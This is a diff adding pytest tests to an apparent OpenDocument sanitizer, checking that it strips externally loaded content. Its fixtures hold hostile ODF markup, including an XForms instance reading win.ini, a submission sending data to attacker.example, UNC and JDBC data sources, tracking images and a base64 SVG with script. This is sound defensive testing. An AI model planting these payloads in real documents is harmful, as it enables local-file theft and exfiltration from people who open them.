@@ -730,3 +730,71 @@ def test_a_stream_whose_root_is_not_its_opendocument_element_blocks_the_file(tmp
     report = run_engine(source, tmp_path, name="文書.odt")
     assert (report.outcome, report.reason_code) == ("blocked", "corrupt_file")
     assert "Object 1/content.xml is not OpenDocument markup" in (report.reason or "")
+
+
+XFORMS = 'xmlns:xforms="http://www.w3.org/2002/xforms" xmlns:xsd="http://www.w3.org/2001/XMLSchema"'
+# what LibreOffice loads with a document besides xlink:href (or with an xlink:href the link
+# allowlist used to keep): each -> a needle that must not be in the output
+LOADED_WITH_THE_DOCUMENT = {
+    "xforms_instance": ("odt", f'<office:forms><xforms:model {XFORMS} xforms:id="m" schema="http://attacker.example/s.xsd">'
+                               '<xforms:instance src="file:///C:/Windows/win.ini"/>'
+                               '<xforms:submission id="s" action="http://attacker.example/steal" method="put"/>'
+                               '<xsd:schema><xsd:import schemaLocation="http://attacker.example/t.xsd"/></xsd:schema>'
+                               '</xforms:model></office:forms><text:p>本文</text:p>', "attacker.example"),
+    "win_ini": ("odt", f'<office:forms><xforms:model {XFORMS}><xforms:instance src="file:///C:/Windows/win.ini"/>'
+                       "</xforms:model></office:forms><text:p>本文</text:p>", "win.ini"),
+    "form_datasource": ("odt", '<office:forms><form:form form:name="f" form:datasource="file:///\\\\attacker.example'
+                               '\\share\\db.odb" form:command="SELECT 1"/></office:forms><text:p>本文</text:p>',
+                        "attacker.example"),
+    "database_field": ("odt", '<text:p><text:database-display text:table-name="t" text:column-name="c" '
+                              'text:database-name="sdbc:mysql:jdbc:attacker.example:3306/db">値</text:database-display>'
+                              '<text:database-display text:table-name="t" text:column-name="c" '
+                              'text:database-name="x"><form:connection-resource xlink:href="https://attacker.example/'
+                              'a.odb"/>値</text:database-display>本文</text:p>', "attacker.example"),
+    "image_control": ("odt", '<office:forms><form:form form:name="f"><form:image-frame form:id="c1" form:name="i" '
+                             'form:image-data="https://attacker.example/track.png"/><form:button form:id="c2" '
+                             'form:name="b" form:image-data="file://attacker.example/s/a.png"/></form:form>'
+                             "</office:forms><text:p>本文</text:p>", "attacker.example"),
+    "picture_in_xml": ("odt", '<text:p><draw:frame draw:name="a" svg:width="1cm" svg:height="1cm"><draw:image>'
+                              "<office:binary-data>PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciPjxzY3JpcHQ+"
+                              "Y2FsYygpPC9zY3JpcHQ+PC9zdmc+</office:binary-data></draw:image></draw:frame>本文</text:p>",
+                       "PHN2Zy"),
+    "slide_sound": ("odp", '<draw:page draw:name="p"><anim:par xmlns:anim="urn:oasis:names:tc:opendocument:xmlns:'
+                           'animation:1.0" presentation:node-type="timing-root"><anim:audio xlink:href="https://'
+                           'attacker.example/a.wav"/></anim:par><draw:frame draw:name="t" svg:width="1cm" '
+                           'svg:height="1cm"><draw:text-box><text:p>本文</text:p></draw:text-box></draw:frame>'
+                           "</draw:page>", "attacker.example"),
+}
+
+
+@pytest.mark.parametrize("case", sorted(LOADED_WITH_THE_DOCUMENT))
+def test_what_the_document_loads_from_elsewhere_is_removed_and_named(tmp_path: Path, case: str) -> None:
+    """XForms instances, schemas and submissions, form and field data sources, image controls'
+    pictures, picture bytes inside the XML and slide sounds: each was kept, and the inspector let
+    the output through."""
+    kind, body, needle = LOADED_WITH_THE_DOCUMENT[case]
+    source = write_odf(tmp_path / f"{case}.{kind}", body)
+    assert [p for p in check_odf(source) if "styles.xml" not in p]  # the inspector reads the original by itself
+    report = run_engine(source, tmp_path / "out")
+    assert report.outcome == "sanitized"
+    assert {"external_link_removed", "data_connection_removed", "media_removed"} & {f.code for f in report.findings}
+    output = tmp_path / "out" / report.outputs[0].path
+    with zipfile.ZipFile(output) as package:
+        content = package.read("content.xml").decode("utf-8")
+    assert needle not in content and "本文" in content
+    assert check_odf(output) == [] and inspect_file(output, tmp_path).clean
+
+
+def test_a_registered_data_source_and_an_inline_form_model_stay(tmp_path: Path) -> None:
+    body = (f'<office:forms><xforms:model {XFORMS} xforms:id="m"><xforms:instance xforms:id="i"/>'
+            '<xforms:bind id="b" nodeset="/data/a" required="true()"/><xsd:schema><xsd:simpleType name="t">'
+            '<xsd:restriction base="xsd:string"><xsd:maxLength value="10"/></xsd:restriction></xsd:simpleType>'
+            '</xsd:schema></xforms:model><form:form form:name="f" form:datasource="住所録" form:command="名簿"/>'
+            "</office:forms><text:p>本文</text:p>")
+    report = run_engine(write_odf(tmp_path / "名簿.odt", body), tmp_path / "out")
+    output = tmp_path / "out" / report.outputs[0].path
+    with zipfile.ZipFile(output) as package:
+        content = package.read("content.xml").decode("utf-8")
+    assert 'form:datasource="住所録"' in content and "xforms:bind" in content and "xsd:maxLength" in content
+    assert not {"external_link_removed", "data_connection_removed"} & {f.code for f in report.findings}
+    assert check_odf(output) == []
